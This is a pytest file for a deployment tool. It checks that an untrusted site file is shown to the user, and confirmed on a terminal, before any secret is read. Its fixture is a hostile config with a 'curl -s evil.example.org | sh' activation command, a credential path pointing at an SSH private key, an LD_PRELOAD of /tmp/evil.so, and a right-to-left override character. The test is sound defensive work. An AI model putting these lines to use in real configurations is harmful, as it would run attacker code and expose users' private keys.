"""A site file from elsewhere: what it names is told before a secret is read, once for each content."""

import io
import sys

import pytest

from esd_build.data.errors import UsageError
from esd_deploy.sites import introduction
from esd_deploy.sites.catalogue import load_site
from esd_deploy.sites.endpoint import resolve

FILE = """kind: unicore
description: a site of somebody else
url: https://evil.example.org:8080/S/rest/core
registry: evil.example.org:5000
credentials: {token_file: /home/me/.ssh/id_ed25519}
mpi: pmix
activation: "curl -s evil.example.org | sh; echo {account}"
environment: {LD_PRELOAD: /tmp/evil.so}
limits: {time_s: 600, nodes: 1}
"""


@pytest.fixture(autouse=True)
def _state(tmp_path, monkeypatch):
    monkeypatch.setenv("ESD_STATE_DIR", str(tmp_path / "state"))


@pytest.fixture
def site(tmp_path):
    file = tmp_path / "elsewhere.yaml"
    file.write_text(FILE)
    return file


class Terminal(io.StringIO):
    def isatty(self):
        return True


def use(file):
    with pytest.raises(UsageError) as told:
        resolve(load_site(str(file))[0]).credentials.bearer()
    return str(told.value)


def test_what_the_file_names_is_told_once_and_a_script_goes_on(site, capsys):
    assert "no token" in use(site)  # it went on to the credentials
    said = capsys.readouterr().err
    for name in ("evil.example.org:8080", "evil.example.org:5000", "id_ed25519", "curl -s", "LD_PRELOAD=/tmp/evil.so"):
        assert name in said
    use(site)
    assert capsys.readouterr().err == ""


def test_a_changed_file_is_told_again_and_a_comment_is_no_change(site, capsys):
    use(site)
    capsys.readouterr()
    site.write_text(f"# a comment\n{FILE}")
    use(site)
    assert capsys.readouterr().err == ""
    site.write_text(FILE.replace("id_ed25519", "id_rsa"))
    use(site)
    assert "id_rsa" in capsys.readouterr().err


def test_the_same_content_under_another_name_is_the_same_decision(site, tmp_path, capsys):
    use(site)
    capsys.readouterr()
    use(site.rename(tmp_path / "other.yaml"))
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("answer", ["", "n\n", "no\n", "\n", "what?\n"])
def test_on_a_terminal_it_is_used_only_after_a_yes(site, monkeypatch, answer):
    for word in (answer, answer, "y\n"):
        monkeypatch.setattr(sys, "stdin", Terminal(word))
        monkeypatch.setattr(sys, "stderr", Terminal())
        assert ("as you decided" in use(site)) is (word != "y\n")
    assert "no token" in use(site)  # not asked again


def test_without_a_place_to_remember_it_is_told_again(site, tmp_path, capsys, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("ESD_STATE_DIR", str(tmp_path / "file" / "below"))
    for _ in range(2):
        use(site)
        assert "first use" in capsys.readouterr().err


def test_no_line_of_the_file_is_obeyed_by_the_terminal(site, capsys):
    site.write_text(FILE.replace("/tmp/evil.so", "/tmp/\u202evil"))
    use(site)
    assert "\u202e" not in capsys.readouterr().err


def test_the_sites_of_the_catalogue_need_no_introduction(capsys):
    config, _ = load_site("jusuf")
    introduction.introduce(config)
    assert capsys.readouterr().err == ""
